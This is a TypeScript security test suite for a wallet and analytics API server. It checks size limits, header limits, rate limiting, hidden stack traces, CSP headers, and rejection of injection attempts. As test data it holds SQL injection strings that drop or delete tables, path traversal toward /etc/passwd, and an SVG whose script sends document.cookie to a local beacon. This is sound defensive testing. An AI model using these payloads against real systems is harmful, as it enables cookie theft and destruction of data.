import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, request as httpRequest, type Server } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { chromium } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { loadConfig } from './config/loadConfig.ts'
import type { ServerConfig } from './config/ServerConfig.ts'
import { openDatabase } from './db/openDatabase.ts'
import { IMAGE_CSP } from './http/securityHeaders.ts'
import { silentLog } from './log.ts'
import { type RunningServer, startServer } from './startServer.ts'

const dirs: string[] = []
afterAll(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true })
})

const configWith = (overrides: Partial<ServerConfig> = {}): ServerConfig => ({
  ...loadConfig({ PORT: '0', DATABASE_URL: 'memory' }),
  masterKeyFile: undefined,
  indexer: { enabled: false, confirmations: undefined, pollMs: 1000, startBlocks: {} },
  seedProjects: [{ id: 'counted', name: 'Counted', allowedOrigins: ['*'], features: {}, analyticsEnabled: true }],
  ...overrides,
})

/**
 * POSTs a JSON event whose `props.p` is `total` bytes long, streamed in 64 KiB chunks (a valid body, only
 * huge); answers the status and how much was sent before the server answered.
 */
function streamPost(url: string, total: number, headers: Record<string, string> = {}) {
  return new Promise<{ status: number; sent: number; body: string }>((resolve, reject) => {
    const chunk = Buffer.alloc(65_536, 0x61)
    let sent = 0
    const req = httpRequest(url, { method: 'POST', headers: { 'content-type': 'application/json', ...headers } })
    req.on('response', (res) => {
      let body = ''
      res.on('data', (d) => {
        body += d
      })
      res.on('end', () => {
        resolve({ status: res.statusCode ?? 0, sent, body })
        req.destroy()
      })
    })
    req.on('error', (error) => (sent > 0 ? undefined : reject(error)))
    req.write('{"eventId":"huge","timestamp":1,"props":{"p":"')
    const pump = () => {
      while (sent < total && !req.destroyed) {
        sent += chunk.length
        if (!req.write(chunk)) return void req.once('drain', pump)
      }
      if (!req.destroyed) req.end('"}}')
    }
    pump()
  })
}

describe('limits on a running server', () => {
  let server: RunningServer
  let imagesDir: string
  let dataDir: string
  beforeAll(async () => {
    imagesDir = mkdtempSync(join(tmpdir(), 'gangway-images-'))
    dataDir = mkdtempSync(join(tmpdir(), 'gangway-limits-'))
    dirs.push(imagesDir, dataDir)
    mkdirSync(join(imagesDir, 'wallets'))
    writeFileSync(join(imagesDir, 'secret.svg'), '<svg>secret</svg>')
    server = await startServer(configWith({ imagesDir, database: { kind: 'pglite', dataDir } }), silentLog)
  }, 60_000)
  afterAll(async () => {
    await server?.close()
    // nothing the attacks sent was stored
    const database = await openDatabase({ kind: 'pglite', dataDir })
    const events = await database.db.selectFrom('analytics_events').selectAll().execute()
    await database.close()
    expect(events).toEqual([])
  })

  it('cuts 100 MB bodies short on every route with 413 and stores nothing', async () => {
    const routes = [
      '/e?projectId=counted',
      '/auth/v1/email',
      '/auth/v1/otp',
      '/auth/v1/refresh',
      '/auth/v1/rpc',
      '/auth/v1/device/approve',
      '/v1/fungible/price?projectId=local',
      '/v1?chainId=eip155:31337&projectId=local',
      '/getWallets?projectId=local',
      '/no/such/route',
    ]
    for (const route of routes) {
      const origin: Record<string, string> = route.startsWith('/auth') ? { origin: 'http://localhost:4001' } : {}
      // declared up front: refused before a byte of the body is read
      const declared = await streamPost(`${server.url}${route}`, 100_000_000, {
        'content-length': '100000000',
        ...origin,
      })
      expect(declared.status, route).toBe(413)
      expect(declared.sent, route).toBeLessThan(20_000_000)
      // chunked, no length: refused once past the limit
      const chunked = await streamPost(`${server.url}${route}`, 100_000_000, origin)
      expect(chunked.status, route).toBe(413)
      expect(chunked.sent, route).toBeLessThan(20_000_000)
      const answer = JSON.parse(chunked.body) as { code?: string; error?: { code: number } }
      expect(answer.code ?? answer.error?.code, route).toBeDefined()
    }
  }, 120_000)

  it('answers 400 for an event timestamp of 1e20 or NUL characters, and stores nothing', async () => {
    for (const event of [
      { eventId: 'big', timestamp: 1e20 },
      { eventId: 'neg', timestamp: -1 },
      { eventId: 'nul\u0000', timestamp: 1 },
      { eventId: 'props', timestamp: 1, props: { a: 'x\u0000y' } },
    ]) {
      const res = await fetch(`${server.url}/e?projectId=counted`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(event),
      })
      expect(res.status, event.eventId).toBe(400)
      expect(((await res.json()) as { code: string }).code).toBe('BAD_REQUEST')
    }
  })

  it('answers 431 to huge headers and keeps serving', async () => {
    const status = await new Promise<number>((resolve) => {
      const req = httpRequest(`${server.url}/healthz`, { headers: { 'x-big': 'a'.repeat(64 * 1024) } })
      req.on('response', (res) => resolve(res.statusCode ?? 0))
      req.on('error', () => resolve(-1))
      req.end()
    })
    expect(status).toBe(431)
    expect((await fetch(`${server.url}/healthz`)).status).toBe(200)
  })

  it('puts nosniff and a CSP on every answer; images get a sandbox CSP', async () => {
    for (const path of [
      '/healthz',
      '/getWallets?projectId=local',
      '/getWallets',
      '/nope',
      '/getWalletImage/io.metamask',
    ]) {
      const res = await fetch(`${server.url}${path}`)
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff')
      expect(res.headers.get('content-security-policy'), path).toMatch(/default-src 'none'/)
      expect(res.headers.get('x-frame-options'), path).toBe('DENY')
    }
    const image = await fetch(`${server.url}/getWalletImage/io.metamask`)
    expect(image.headers.get('content-security-policy')).toBe(IMAGE_CSP)
    expect(image.headers.get('cross-origin-resource-policy')).toBe('cross-origin')
  })

  it('refuses SQL injection and path traversal', async () => {
    for (const query of [
      "search=' OR 1=1 --",
      "include=x'),('y",
      'chains=eip155:1%27%3B%20drop%20table%20wallets%3B--',
      "exclude=io.metamask'; delete from wallets; --",
    ]) {
      const res = await fetch(`${server.url}/getWallets?projectId=local&${query}`)
      expect(res.status, query).toBeLessThan(500)
    }
    const injected = await fetch(`${server.url}/getWallets?projectId=${encodeURIComponent("local' OR '1'='1")}`)
    expect(injected.status).toBe(403)
    const all = (await (await fetch(`${server.url}/getWallets?projectId=local`)).json()) as { count: number }
    expect(all.count).toBe(539)
    for (const path of [
      '/getWalletImage/..%2Fsecret',
      '/getWalletImage/..%2F..%2F..%2Fetc%2Fpasswd',
      '/getWalletImage/%2e%2e%2fsecret',
      '/public/getTokenImage/..%5Csecret',
    ]) {
      const res = await fetch(`${server.url}${path}`)
      expect(res.status, path).toBe(400)
      expect(await res.text()).not.toContain('secret</svg>')
    }
  })
})

describe('no stack traces', () => {
  it('answers an internal failure as {code, message} without a trace', async () => {
    const database = await openDatabase({ kind: 'pglite', dataDir: undefined })
    const { createApp } = await import('./createApp.ts')
    const { testConfig } = await import('./test/testConfig.ts')
    const { serveApp } = await import('./test/serveApp.ts')
    const served = await serveApp(createApp({ db: database.db, config: testConfig() }))
    await database.close() // every query now fails
    try {
      const res = await fetch(`${served.url}/getWallets?projectId=local`)
      expect(res.status).toBe(500)
      const text = await res.text()
      expect(JSON.parse(text)).toEqual({ code: 'SERVER_ERROR', message: 'Server Error' })
      expect(text).not.toMatch(/\bat\b|\.ts|node_modules/)
    } finally {
      await served.close()
    }
  })
})

describe('per-IP ceiling', () => {
  it('a new client id per request does not get around it; one client id is limited below it; X-Forwarded-For from an untrusted peer is ignored', async () => {
    const server = await startServer(configWith({ rateLimitPerIpPerMinute: 20, rateLimitPerMinute: 5 }), silentLog)
    try {
      const get = (clientId: string, headers: Record<string, string> = {}) =>
        fetch(`${server.url}/appkit/v1/config?projectId=local&clientId=${clientId}`, { headers }).then((r) => r.status)
      const one: number[] = []
      for (let i = 0; i < 7; i++) one.push(await get('same'))
      expect(one).toEqual([200, 200, 200, 200, 200, 429, 429])
      const rotating: number[] = []
      for (let i = 0; i < 20; i++) rotating.push(await get(`fresh-${i}`))
      // 7 already counted against this address: 13 more pass, then the ceiling holds whatever the id
      expect(rotating.filter((s) => s === 200)).toHaveLength(13)
      expect(rotating.slice(13)).toEqual(Array(7).fill(429))
      // X-Forwarded-For from an untrusted peer is ignored
      expect(await get('fresh-x', { 'x-forwarded-for': '203.0.113.9' })).toBe(429)
    } finally {
      await server.close()
    }
  })
})

describe('operator SVG in a browser', () => {
  let server: RunningServer
  let beacon: Server
  let hits = 0
  beforeAll(async () => {
    beacon = createServer((_req, res) => {
      hits++
      res.end('ok')
    })
    await new Promise<void>((r) => beacon.listen(0, '127.0.0.1', () => r()))
    const port = (beacon.address() as { port: number }).port
    const imagesDir = mkdtempSync(join(tmpdir(), 'gangway-svg-'))
    dirs.push(imagesDir)
    mkdirSync(join(imagesDir, 'wallets'))
    writeFileSync(
      join(imagesDir, 'wallets', 'evil.svg'),
      `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch('http://127.0.0.1:${port}/stolen?'+document.cookie)</script><rect width="10" height="10"/></svg>`,
    )
    server = await startServer(configWith({ imagesDir }), silentLog)
  }, 60_000)
  afterAll(async () => {
    await server?.close()
    beacon?.close()
  })

  it('does not run a script in an operator SVG opened on the API origin', async () => {
    const browser = await chromium.launch({
      executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
      args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'],
    })
    try {
      const page = await browser.newPage()
      const res = await page.goto(`${server.url}/getWalletImage/evil`)
      expect(res?.status()).toBe(200)
      await page.waitForTimeout(500)
      expect(hits).toBe(0)
    } finally {
      await browser.close()
    }
  }, 60_000)
})
